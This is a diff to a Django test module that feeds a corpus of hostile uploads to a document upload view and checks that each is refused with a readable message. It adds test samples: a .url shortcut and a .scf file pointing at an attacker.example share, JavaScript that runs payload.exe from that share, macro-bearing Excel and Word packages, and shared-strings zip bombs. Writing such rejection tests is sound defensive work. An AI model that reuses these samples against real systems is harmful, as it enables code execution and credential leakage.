@@ -1,8 +1,6 @@
 """A corpus of hostile uploads sent through the real upload view: each is refused with a message
 a person can act on, and nothing is stored (no file in storage, no Document row, no event)."""
 
-import io
-import zipfile
 from pathlib import Path
 
 import pytest
@@ -13,27 +11,26 @@ from fpdf import FPDF
 from documents.models import Document
 from onboarding.models import Application, ApplicationEvent
 from portal.models import User
+from tests.documents.office_files import (
+    EXCEL_ADDIN,
+    EXCEL_BINARY,
+    EXCEL_MACRO,
+    EXCEL_MACRO_TEMPLATE,
+    EXCEL_PLAIN,
+    MB,
+    VBA,
+    WORD_MACRO,
+    WORKBOOK,
+    office_file,
+    office_package,
+    shared_strings_bomb,
+)
 from tests.factories import PDF
 
 pytestmark = pytest.mark.django_db
 
-MB = 1024 * 1024
 EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 64
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
-
-
-def office_file(kind: str, payload_bytes: int) -> bytes:
-    """A minimal DOCX or XLSX whose main part holds ``payload_bytes`` of compressible data."""
-    part = "word/document.xml" if kind == "docx" else "xl/workbook.xml"
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
-        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
-        with archive.open(part, "w", force_zip64=True) as member:
-            chunk = b"\x00" * MB
-            for _ in range(payload_bytes // MB):
-                member.write(chunk)
-            member.write(b"\x00" * (payload_bytes % MB))
-    return buffer.getvalue()
 
 
 def understated_zip_bomb() -> bytes:
@@ -60,6 +57,23 @@ HTML = b"<html><script>alert(1)</script>,</html>"
 SVG = b'<?xml version="1.0"?><svg onload="x()">,</svg>'
 NO_EOF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n"
 RTL = "\N{RIGHT-TO-LEFT OVERRIDE}"
+MACROS = "Files with macros cannot be uploaded"
+NOT_A_TABLE = "not laid out as a table"
+# Each has a comma on its first line, which is all the first bytes of a CSV file show.
+INTERNET_SHORTCUT = (
+    b"; shortcut, opened from the share\r\n[InternetShortcut]\r\n"
+    b"URL=file://attacker.example/share/payload.exe\r\n"
+    b"IconFile=\\\\attacker.example\\share\\icon.ico\r\nIconIndex=1\r\n"
+)
+SHELL_COMMAND_FILE = (
+    b"; desktop, refreshed\r\n[Shell]\r\nCommand=2\r\n"
+    b"IconFile=\\\\attacker.example\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"
+)
+PYTHON = b"import os, subprocess\nsubprocess.run(['calc.exe'])\n"
+JAVASCRIPT = (
+    b'var shell = WScript.CreateObject("WScript.Shell"), share = "\\\\attacker.example\\s";\n'
+    b'shell.Run(share + "\\payload.exe");\n'
+)
 
 CORPUS = [
     # (case, file name, content, words the person is told)
@@ -82,6 +96,50 @@ CORPUS = [
     ("damaged zip as DOCX", "report.docx", b"PK\x03\x04" + b"\x17" * 200, UNRECOGNISED),
     ("PDF without %%EOF", "letter.pdf", NO_EOF, DAMAGED),
     ("truncated PDF", "letter.pdf", real_pdf()[: len(real_pdf()) // 2], DAMAGED),
+    ("internet shortcut", "evil.url", INTERNET_SHORTCUT, "Files ending in .url cannot be"),
+    ("shell command file", "desktop.scf", SHELL_COMMAND_FILE, "Files ending in .scf cannot be"),
+    ("Python script", "roster.py", PYTHON, "Files ending in .py cannot be"),
+    ("JavaScript as CSV named a PDF", "js.pdf", JAVASCRIPT, NOT_A_TABLE),
+    ("JavaScript as CSV", "roster.csv", JAVASCRIPT, NOT_A_TABLE),
+    ("CSV named a PDF", "letter.pdf", b"name,county\nAna,los_angeles\n", "must end in .csv"),
+    ("PDF named a Word document", "report.docx", PDF, "must end in .pdf"),
+    ("Excel binary workbook", "macro.xlsb", office_package(WORKBOOK, EXCEL_BINARY), MACROS),
+    ("Excel add-in", "tools.xlam", office_package(WORKBOOK, EXCEL_ADDIN), MACROS),
+    ("Excel macro template", "budget.xltm", office_package(WORKBOOK, EXCEL_MACRO_TEMPLATE), MACROS),
+    ("Excel macro workbook", "capacity.xlsm", office_package(WORKBOOK, EXCEL_MACRO), MACROS),
+    (
+        "Excel macro workbook named .xlsx",
+        "capacity.xlsx",
+        office_package(WORKBOOK, EXCEL_MACRO),
+        MACROS,
+    ),
+    (
+        "Excel binary workbook named .xlsx",
+        "capacity.xlsx",
+        office_package({"xl/workbook.bin": b"\x83\x01\x00"}, EXCEL_BINARY),
+        MACROS,
+    ),
+    (
+        "macros under a plain Excel type",
+        "capacity.xlsx",
+        office_package(WORKBOOK, EXCEL_PLAIN),
+        MACROS,
+    ),
+    (
+        "Word macro document named .docx",
+        "report.docx",
+        office_package(
+            {"word/document.xml": b"<w:document/>", "word/vbaProject.bin": VBA}, WORD_MACRO
+        ),
+        MACROS,
+    ),
+    ("shared strings bomb XLSX", "capacity.xlsx", shared_strings_bomb(0), BOMB),
+    (
+        "shared strings bomb XLSX padded under the file's ratio",
+        "capacity.xlsx",
+        shared_strings_bomb(700 * 1024),
+        BOMB,
+    ),
 ]
 
 
